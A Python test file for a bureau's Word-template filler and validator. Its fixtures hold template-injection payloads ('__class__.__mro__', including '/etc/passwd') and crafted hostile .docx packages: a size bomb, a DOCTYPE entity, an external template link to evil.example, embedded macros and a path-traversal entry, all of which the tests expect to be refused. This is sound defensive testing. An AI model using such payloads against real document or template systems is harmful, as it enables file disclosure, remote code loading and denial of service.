"""A bureau's own template: what may stand in it, what is refused, and what comes out."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import UTC, datetime
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document

from tests.documents.cast import PAPER, matter, snapshot
from tests.documents.pages import W, part
from tracker.base.errors import DomainError
from tracker.documents import blocks as b
from tracker.documents.facts import Fonts, Remark
from tracker.documents.word.own_templates import check_template, fill_template
from tracker.documents.word.template_grammar import field_names
from tracker.documents.word.writer import docx_of

COLUMNS = (b.Column("序号", 1), b.Column("事项", 3))
LOOP = b.Table(
    COLUMNS,
    (
        ("{%tr for 事项 in 事项清单 %}", ""),
        ("{{ 事项.序号 }}", "{{ 事项.名称 }}（{{ 事项.进展 }}）"),
        ("{%tr endfor %}", ""),
    ),
)


def template(*texts: str, table: b.Table | None = None) -> bytes:
    blocks: list[b.Block] = [b.Para(text) for text in texts]
    return docx_of(
        (*blocks, table) if table else tuple(blocks),
        fonts=Fonts(),
        title="模板",
        author="局",
        saved_at=datetime(2023, 1, 1, tzinfo=UTC),
    )


def said(docx: bytes) -> list[str]:
    """Paragraphs, a line break as ↵."""
    lines = []
    for paragraph in part(docx, "word/document.xml").iter(f"{W}p"):
        parts = (
            "↵" if one.tag == f"{W}br" else one.text or ""
            for one in paragraph.iter(f"{W}t", f"{W}br")
        )
        lines.append("".join(parts))
    return [line for line in lines if line]


def test_fields_lists_and_conditions_are_filled() -> None:
    made = template(
        "{{ 发文机关 }}{{ 文号 }}：截至{{ 截至日期 }}，交办{{ 交办数 }}件，办结率{{ 办结率 }}。",
        "{% if 逾期数 != '0' %}逾期{{ 逾期数 }}件{% else %}无逾期{% endif %}",
        "{{ 总体情况 }}",
        table=LOOP,
    )
    assert check_template(made) == []
    lines = said(fill_template(made, PAPER, snapshot()))
    assert (
        lines[0] == "南阳市乡村振兴局宛振督〔2023〕12号：截至2023年9月14日，交办22件，办结率27%。"
    )
    assert lines[1] == "逾期3件"
    assert lines[2].startswith("2023年第三季度乡村振兴重点工作共交办督办事项22件。")
    assert lines[-2:] == [
        "22",
        "健全防止返贫动态监测和帮扶机制（已完成第二轮集中排查，正在汇总数据。）",
    ]


def test_markup_in_facts_is_text_and_nothing_is_lost() -> None:
    """Without autoescape ``A&B <c>`` silently became ``A ``."""
    hard = "A&B <c> 办结率<50% {{ 7*7 }} \x07㙍𠮷䶮"
    made = template("{{ 批注 }}", table=LOOP)
    paper = replace(PAPER, remarks=(Remark("一", hard), Remark("二", "第二行")))
    facts = snapshot((matter(1, title=hard, progress=hard),))
    lines = said(fill_template(made, paper, facts))
    clean = hard.replace("\x07", "")
    assert lines[0] == f"{clean}↵第二行"
    assert lines[-1] == f"{clean}（{clean}）"


def test_the_same_facts_make_the_same_bytes() -> None:
    made = template("{{ 文号 }}", table=LOOP)
    assert fill_template(made, PAPER, snapshot()) == fill_template(made, PAPER, snapshot())


@pytest.mark.parametrize(
    ("text", "said_of_it"),
    [
        ("{{ 交办总数 }}", "没有名为“交办总数”的字段。是否为“交办数”？"),
        ("{{ xyz }}", "没有名为“xyz”的字段。"),
        ("{{ 事项清单 }}", "“事项清单”是清单"),
        ("{% for 事 in 单位清单 %}{{ 事.名 }}{% endfor %}", "没有名为“事.名”的字段。"),
        ("{% for 事 in 名单 %}{% endfor %}", "循环只能用于"),
        ("{% for 事 in 事项清单 recursive %}{% endfor %}", "循环只能写成"),
        (
            "{% for 甲 in 事项清单 %}{% for 乙 in 事项清单 %}{% endfor %}{% endfor %}",
            "循环中不能再有循环",
        ),
        ("{% for 文号 in 事项清单 %}{% endfor %}", "与字段重名"),
        ("{% if 文号 %}没有结束", "写法有误：“{% if 文号 %}没有结束”附近"),
        ("{{ 文号 ", "有误"),
        ("{% 文号 %}", "有误"),
        ("没有字段", "没有任何字段"),
        ("{{ ''.__class__.__mro__ }}", "不允许"),
        ("{{ 文号.__class__ }}", "没有名为“文号.__class__”的字段"),
        ("{{ 文号.format(1) }}", "不允许使用调用"),
        ("{{ 文号|upper }}", "不允许使用过滤器"),
        ("{{ 文号 * 99999999 }}", "不允许使用"),
        ("{{ [1] * 99999999 }}", "不允许使用"),
        ("{% set x = 1 %}", "不允许使用赋值"),
        ("{% include '/etc/passwd' %}", "不允许使用引入"),
        ("{% import 'x' as y %}", "不允许使用引入"),
        ("{% extends 'x' %}", "不允许使用继承"),
        ("{% macro m() %}{% endmacro %}", "不允许使用宏"),
        ("{{ 事项清单[0] }}", "不允许使用下标"),
        ("{{ range(10**9) }}", "不允许使用调用"),
        ("{{ self }}", "没有名为“self”的字段"),
        ("{{ cycler }}", "没有名为“cycler”的字段"),
        ("{{ 文号 }}" * 2001, "超过2000处"),
    ],
)
def test_what_may_not_stand_in_a_template(text: str, said_of_it: str) -> None:
    made = template(text)
    problems = check_template(made)
    assert any(said_of_it in one for one in problems), problems
    with pytest.raises(DomainError):
        fill_template(made, PAPER, snapshot())


def test_every_unknown_field_is_named_once() -> None:
    made = template("{{ 甲一 }}{{ 乙二 }}", "{{ 甲一 }}")
    assert check_template(made) == ["没有名为“甲一”的字段。", "没有名为“乙二”的字段。"]


def test_properties_headers_and_footers_are_checked_too() -> None:
    document = Document()
    document.add_paragraph("{{ 文号 }}")
    document.core_properties.title = "{{ 标题栏 }}"
    document.sections[0].header.paragraphs[0].text = "{{ 页眉 }}"
    document.sections[0].footer.paragraphs[0].text = "{{ cycler('a') }}"
    out = io.BytesIO()
    document.save(out)
    problems = "".join(check_template(out.getvalue()))
    for wanted in ("标题栏", "页眉", "不允许使用调用"):
        assert wanted in problems


def test_a_loop_that_tears_a_table_is_found_when_the_template_is_brought() -> None:
    """docxtpl would patch the torn page up by dropping text."""
    head = b.Table(COLUMNS, (("{% for 事 in 事项清单 %}", "{{ 事.序号 }}"),))
    made = docx_of(
        (head, b.Para("{% endfor %}")),
        fonts=Fonts(),
        title="",
        author="",
        saved_at=datetime(2023, 1, 1, tzinfo=UTC),
    )
    assert "循环和条件" in check_template(made)[0]


def changed(docx: bytes, **parts: bytes) -> bytes:
    """The package with parts replaced or added (``__`` stands for ``/``, ``_dot_`` for ``.``)."""
    renamed = {name.replace("__", "/").replace("_dot_", "."): text for name, text in parts.items()}
    out = io.BytesIO()
    with ZipFile(io.BytesIO(docx)) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in renamed:
                new.writestr(name, old.read(name))
        for name, text in renamed.items():
            new.writestr(name, text)
    return out.getvalue()


def _body(docx: bytes) -> bytes:
    with ZipFile(io.BytesIO(docx)) as package:
        return package.read("word/document.xml")


def hostile() -> dict[str, bytes]:
    good = template("{{ 文号 }}")
    body = _body(good)
    with ZipFile(io.BytesIO(good)) as package:
        rels = package.read("word/_rels/document.xml.rels")
        types = package.read("[Content_Types].xml")
    outside = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    doctype = b'<!DOCTYPE x [<!ENTITY a "b">]><w:document'
    return {
        "text": b"{{ \xe6\x96\x87 }}",
        "nothing": b"",
        "cut": good[: len(good) // 2],
        "bomb": changed(good, word__document_dot_xml=body + b" " * 90_000_000),
        "large": changed(good, word__document_dot_xml=body + b" " * 3_000_000),
        "doctype": changed(good, word__document_dot_xml=body.replace(b"<w:document", doctype, 1)),
        "utf16": changed(
            good,
            word__styles_dot_xml='<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x><x/>'.encode(
                "utf-16"
            ),
        ),
        "outside": changed(
            good,
            **{
                "word___rels__document_dot_xml_dot_rels": rels.replace(b"</Relationships>", outside)
            },
        ),
        "macros": changed(good, word__vbaProject_dot_bin=b"x"),
        "macro type": changed(
            good,
            **{
                "[Content_Types]_dot_xml": types.replace(
                    b"document.main+xml", b"document.macroEnabled.main+xml"
                )
            },
        ),
        "climbing": changed(good, **{"..__evil_dot_xml": b"<x/>"}),
        "broken xml": changed(good, word__document_dot_xml=body[:-30]),
        "no body": changed(
            good,
            word__document_dot_xml=b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"/>',
        ),
        "not a document": changed(good, word__document_dot_xml=b"<x/>"),
    }


HOSTILE = hostile()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_file_is_refused_in_words(name: str) -> None:
    problems = check_template(HOSTILE[name])
    assert len(problems) == 1
    assert problems[0].endswith("。")
    with pytest.raises(DomainError):
        fill_template(HOSTILE[name], PAPER, snapshot())


def test_the_fields_to_offer() -> None:
    names = field_names()
    assert "办结率" in names[""]
    assert "牵头单位" in names["事项清单"]
    assert set(names) == {"", "事项清单", "单位清单", "来源清单"}
    for name, fields in names.items():
        if name:
            text = "".join("{{ 行." + field + " }}" for field in fields)
            made = template("{% for 行 in " + name + " %}" + text + "{% endfor %}")
        else:
            made = template("".join("{{ " + field + " }}" for field in fields))
        assert check_template(made) == []
